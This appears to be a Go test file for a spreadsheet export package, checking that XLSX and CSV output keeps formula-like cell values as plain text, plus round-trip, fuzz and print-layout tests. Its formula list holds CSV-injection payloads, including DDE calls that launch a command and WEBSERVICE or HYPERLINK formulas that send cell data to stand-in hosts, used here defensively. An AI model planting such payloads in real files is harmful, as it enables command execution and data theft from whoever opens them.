package sheet_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"

	"chibo/kit/search"
	"chibo/kit/sheet"
)

// formulas are cells that a spreadsheet must not run.
var formulas = []string{
	`=WEBSERVICE("http://127.0.0.1:9/?"&A1)`, "@SUM(1+1)", "|=1+1", `=INDIRECT("A1")`, "＝1+1", "\"\n=1+1", "\t=1+1",
	"+1+1", "\r=1+1", "-2+3", "＠SUM(1)", "＋1", "－1", " =1+1", "\ufeff=1+1", "'=1+1", "''=1", "=A1&\"\x00\"", "+84 912 345 678", "-",
	`=HYPERLINK("https://chibo.invalid/?"&A1,"Xem")`, `=cmd|'/c calc'!A1`, `=DDE("cmd";"/c calc";"x")`, `@SUM(1+9)*cmd|' /C calc'!A0`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`,
	`=IMPORTXML(CONCAT("http://127.0.0.1:9/",A1),"//a")`, `=IMAGE("http://127.0.0.1:9/a.png")`, "=1", "==1", "=-1", "=+1", "=@A1", "+", "=", "@", "|", "＝", "＠", "－", "+A1", "-A1", "@A1",
	" \t=1", "\u00a0=1", "\u200b=1", "\u2060=1", "\u202e=1", "\x00=1", "\n=1", "\v=1", "'+1", "\"=1", "'-",
}

func table(rows ...[]any) sheet.Table {
	return sheet.Table{
		Name: "Đảng viên", Titles: []string{"CHI BỘ TỔ DÂN PHỐ 17", "Lập ngày 20/11/2026"},
		Header: []string{"TT", "Họ và tên"}, Widths: []float64{6, 30}, Rows: rows,
	}
}

// TestWhoTookATableStandsOnIt: in a workbook among its properties, so that the rows stay what
// they are, in CSV in a first line that is as long as the others.
func TestWhoTookATableStandsOnIt(t *testing.T) {
	t.Parallel()
	taken := table([]any{1, "Trần Văn Hòa"})
	taken.Taken = `Lan & Huệ lấy lúc "09 giờ"`
	data, err := taken.XLSX()
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	props, err := f.GetDocProps()
	if err != nil || props.Description != taken.Taken {
		t.Errorf("the workbook says %+v, %v", props, err)
	}
	sheets, err := sheet.Read(data)
	if err != nil || len(sheets) != 1 || len(sheets[0].Rows) != 4 {
		t.Errorf("read %v, %v", sheets, err)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(taken.CSV(), []byte("\ufeff")))).ReadAll()
	if err != nil || len(rows) != 3 || rows[0][0] != taken.Taken || rows[1][1] != "Họ và tên" {
		t.Errorf("CSV: %q, %v", rows, err)
	}
}

func TestFormulasStayText(t *testing.T) {
	t.Parallel()
	var rows [][]any
	for i, s := range formulas {
		rows = append(rows, []any{i + 1, s})
	}
	data, err := table(rows...).XLSX()
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	for i := range formulas {
		at := sheet.Address(1, i+4)
		kind, err := f.GetCellType("Đảng viên", at)
		formula, err2 := f.GetCellFormula("Đảng viên", at)
		if err != nil || err2 != nil || kind != excelize.CellTypeInlineString || formula != "" {
			t.Errorf("%s is of type %v, formula %q (%v, %v)", at, kind, formula, err, err2)
		}
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(string(table(rows...).CSV()), "\r\n")[1:] {
		if _, field, ok := strings.Cut(line, ","); ok && !strings.HasPrefix(field, `"'`) {
			t.Errorf("a formula stands bare in CSV: %s", line)
		}
	}
}

func TestHarmlessLeavesTextAlone(t *testing.T) {
	t.Parallel()
	for _, s := range []string{"", "Trần Văn Hòa", "3/2", "0912345678", "a=b", "'quoted'", "TRUE"} {
		if got := sheet.Harmless(s); got != s {
			t.Errorf("Harmless(%q) = %q", s, got)
		}
	}
}

// TestWhatIsWrittenIsRead writes any text in both forms and reads it back.
func TestWhatIsWrittenIsRead(t *testing.T) {
	t.Parallel()
	texts := rapid.OneOf(rapid.String(), rapid.SampledFrom(formulas), rapid.StringMatching(`[=+@|' "a-c]{0,4}`))
	rapid.Check(t, func(t *rapid.T) {
		var rows [][]any
		var want []string
		for i, s := range rapid.SliceOfN(texts, 1, 5).Draw(t, "texts") {
			rows = append(rows, []any{i + 1, s})
			want = append(want, search.Clean(s))
		}
		type file struct {
			data []byte
			skip int // rows above the first
		}
		files := map[string]file{"csv": {table(rows...).CSV(), 1}}
		if rapid.IntRange(0, 4).Draw(t, "workbook too") == 0 { // slow to write
			data, err := table(rows...).XLSX()
			if err != nil {
				t.Fatal(err)
			}
			files["xlsx"] = file{data, 3}
		}
		for name, written := range files {
			sheets, err := sheet.Read(written.data)
			if err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			var got []string
			for _, row := range sheets[0].Rows[written.skip:] {
				got = append(got, row.Cell(1).Text)
			}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Fatalf("%s (-written +read):\n%s", name, diff)
			}
		}
	})
}

func TestWrittenWorkbookHasItsTitlesAndHeader(t *testing.T) {
	t.Parallel()
	data, err := table([]any{1, "Trần Văn Hòa"}).XLSX()
	if err != nil {
		t.Fatal(err)
	}
	cells := first(t, data)
	for at, want := range map[string]string{"A1": "CHI BỘ TỔ DÂN PHỐ 17", "B3": "Họ và tên", "A4": "1", "B4": "Trần Văn Hòa"} {
		if cells[at].Text != want {
			t.Errorf("%s = %q, want %q", at, cells[at].Text, want)
		}
	}
	if cells["A4"].Kind != sheet.Number {
		t.Errorf("a number is written as %v", cells["A4"].Kind)
	}
}

func FuzzRead(f *testing.F) {
	f.Add(packed(f, nil))
	f.Add(packed(f, map[string]string{"xl/worksheets/sheet1.xml": rows(`<row><c t="inlineStr"><is><t>An</t></is></c></row>`)}))
	f.Add([]byte("TT;Họ và tên\n1;\"Trần\nVăn Hòa\"\n"))
	f.Add([]byte("\xff\xfea\x00,\x00b\x00"))
	f.Add([]byte("sep=;\na;b"))
	f.Fuzz(func(t *testing.T, data []byte) {
		sheets, err := sheet.Read(data)
		if err != nil {
			return
		}
		for _, s := range sheets {
			for _, row := range s.Rows {
				for c, cell := range row.Cells {
					if cell.Text != search.Clean(cell.Text) {
						t.Errorf("%s holds text that is not clean: %q", sheet.Address(c, row.Number), cell.Text)
					}
				}
			}
		}
	})
}

// TestAWorkbookIsReadyToPrint: all columns come on one page, the header on each page, and a text of several
// lines has room in its row.
func TestAWorkbookIsReadyToPrint(t *testing.T) {
	t.Parallel()
	wide := table([]any{1, "Lê An"}, []any{2, "Tổ trưởng tổ dân phố, nguyên Hiệu trưởng trường tiểu học"}, []any{3, strings.Repeat("ạ", 80)}, []any{12345678, "Lê An"})
	wide.Widths = []float64{6, 30}
	for _, c := range []struct {
		width float64
		how   string
	}{{30, "portrait"}, {100, "landscape"}} {
		wide.Widths[1] = c.width
		data, err := wide.XLSX()
		if err != nil {
			t.Fatal(err)
		}
		f, err := excelize.OpenReader(bytes.NewReader(data))
		if err != nil {
			t.Fatal(err)
		}
		page, err := f.GetPageLayout("Đảng viên")
		props, err2 := f.GetSheetProps("Đảng viên")
		if err != nil || err2 != nil || *page.Orientation != c.how || *page.FitToWidth != 1 || *page.FitToHeight != 0 || !*props.FitToPage {
			t.Errorf("%v wide: %+v %+v, %v %v", c.width, page, props, err, err2)
		}
		if names := f.GetDefinedName(); len(names) != 1 || names[0].RefersTo != "'Đảng viên'!$3:$3" {
			t.Errorf("%+v", names)
		}
		for row, want := range map[int]float64{4: 15, 5: 32, 6: 48, 7: 15} {
			if c.width > 30 {
				want = 15
			}
			if high, err := f.GetRowHeight("Đảng viên", row); err != nil || high != want {
				t.Errorf("row %d of %v is %v high, want %v, %v", row, c.width, high, want, err)
			}
		}
	}
}
